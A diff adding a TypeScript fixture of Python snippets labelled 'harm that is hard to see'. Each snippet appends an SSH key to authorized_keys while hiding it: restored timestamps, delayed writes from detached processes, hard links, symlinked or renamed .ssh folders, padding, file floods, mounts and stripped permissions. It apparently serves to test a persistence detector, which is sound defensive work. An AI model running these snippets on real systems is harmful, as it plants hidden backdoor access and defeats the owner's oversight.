@@ -1,0 +1,91 @@
+import { both, type Payload, root, theKey, user } from './payload.ts';
+
+const keys = '/home/user/.ssh/authorized_keys';
+
+/** Harm that is hard to see: each adds the key itself. */
+export const hiddenPayloads: Payload[] = [
+  ...both(
+    'key-with-the-old-date',
+    `
+import os
+before = os.stat('${keys}')
+open('${keys}', 'a').write(${theKey})
+os.utime('${keys}', ns=(before.st_atime_ns, before.st_mtime_ns))`,
+  ),
+  user(
+    'key-through-a-mapping',
+    `
+import mmap, os, time
+key = ${theKey}.encode()
+before = os.stat('${keys}')
+f = open('${keys}', 'r+b'); f.truncate(before.st_size + len(key))
+view = mmap.mmap(f.fileno(), 0)
+view[before.st_size:] = b'\\n' * len(key)
+if os.fork() == 0:
+    os.setsid(); null = os.open('/dev/null', os.O_RDWR); os.dup2(null, 1); os.dup2(null, 2)
+    time.sleep(4)
+    view[before.st_size:] = key
+    time.sleep(300)
+time.sleep(1)`,
+  ),
+  user(
+    'key-through-another-name',
+    `
+import os
+os.link('${keys}', '/home/user/notes')
+open('/home/user/notes', 'a').write(${theKey})`,
+  ),
+  user(
+    'key-behind-a-link',
+    `
+import os
+os.rename('/home/user/.ssh', '/home/user/.notes'); os.symlink('/home/user/.notes', '/home/user/.ssh')
+open('${keys}', 'a').write(${theKey})`,
+  ),
+  user(
+    'key-behind-a-link-that-is-not-utf8',
+    `
+import os
+os.rename(b'/home/user/.ssh', b'/home/user/.\\xff\\xfe'); os.symlink(b'/home/user/.\\xff\\xfe', b'/home/user/.ssh')
+open('${keys}', 'a').write(${theKey})`,
+  ),
+  user(
+    'key-after-the-step',
+    `
+import os, time
+if os.fork() == 0:
+    os.setsid(); null = os.open('/dev/null', os.O_RDWR); os.dup2(null, 1); os.dup2(null, 2)
+    time.sleep(6)
+    open('${keys}', 'a').write(${theKey})
+    os._exit(0)`,
+  ),
+  user(
+    'key-among-40000-files',
+    `
+import os
+os.makedirs('/home/user/.cache/a')
+for turn in range(40000): open('/home/user/.cache/a/%d' % turn, 'w').write(str(turn))
+open('${keys}', 'a').write(${theKey})`,
+  ),
+  user('key-after-10-mb', `open('${keys}', 'a').write('# comment\\n' * (1 << 20) + ${theKey})`),
+  user(
+    'key-in-pieces',
+    `
+with open('${keys}', 'a') as f:
+    for letter in ${theKey}: f.write(letter); f.flush()`,
+  ),
+  root(
+    'key-under-a-mount',
+    `
+import os
+open('${keys}', 'a').write(${theKey})
+os.system('mount -t tmpfs none /home/user/.ssh; mount --bind /etc /home/user/.ssh')`,
+  ),
+  root(
+    'key-and-no-rights',
+    `
+import os
+open('${keys}', 'a').write(${theKey})
+os.chmod('${keys}', 0); os.chown('${keys}', 65534, 65534); os.chmod('/home/user/.ssh', 0)`,
+  ),
+];
